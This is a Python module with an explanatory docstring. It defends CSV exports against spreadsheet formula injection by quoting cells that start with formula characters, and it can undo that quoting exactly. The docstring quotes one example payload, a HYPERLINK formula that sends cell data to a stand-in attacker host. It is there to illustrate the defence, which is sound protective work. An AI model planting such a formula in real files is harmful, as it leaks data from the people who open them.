"""CSV cells a spreadsheet will not run: the one rule every CSV this package writes follows.

A spreadsheet opening a CSV file runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` as a
formula (and some read a leading tab or carriage return the same way), so a quote such as
``=HYPERLINK("http://evil.example/?"&A1)`` in a report would run on the analyst's machine
(CSV injection, OWASP). Every CSV writer (the action table, the ACLED-style CSV, ``--format csv``
of every query) passes each cell through ``spreadsheet_cell``:

- a cell that begins with one of ``FORMULA_STARTS`` gets a leading single quote (``'``), which
  spreadsheets show as text and do not display: ``=1+1`` is written ``'=1+1``;
- a cell that already begins with a quote gets one more (``'quoted`` is written ``''quoted``), so
  that the rule can be undone exactly;
- a plain negative number (``-12.5``, ``-3``: a minus, ASCII digits, at most one decimal point) is
  written as it is, so that coordinates stay numbers in a spreadsheet; nothing a spreadsheet
  runs has that shape.

``incidents load`` of an action table undoes it (``read_spreadsheet_cell``): one leading quote is
removed when what follows it begins with one of ``FORMULA_STARTS`` or a quote, so every value
reads back as it was written, and an export of what was loaded is byte for byte the same file.
A cell edited by hand in a spreadsheet that starts with ``'`` followed by another character
(``'Karma``) is kept as it is.
"""

from __future__ import annotations

import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"

_PLAIN_NEGATIVE_NUMBER = re.compile(r"-[0-9]+(?:\.[0-9]+)?")


def spreadsheet_cell(text: str) -> str:
    """The cell as written to a CSV file: neutralised if a spreadsheet would run it."""
    if text.startswith(FORMULA_STARTS) and _PLAIN_NEGATIVE_NUMBER.fullmatch(text):
        return text
    if text.startswith((*FORMULA_STARTS, QUOTE)):
        return QUOTE + text
    return text


def read_spreadsheet_cell(cell: str) -> str:
    """A cell of a CSV file this package wrote, as the value it holds (``spreadsheet_cell``
    undone)."""
    if cell.startswith(QUOTE) and cell[1:].startswith((*FORMULA_STARTS, QUOTE)):
        return cell[1:]
    return cell
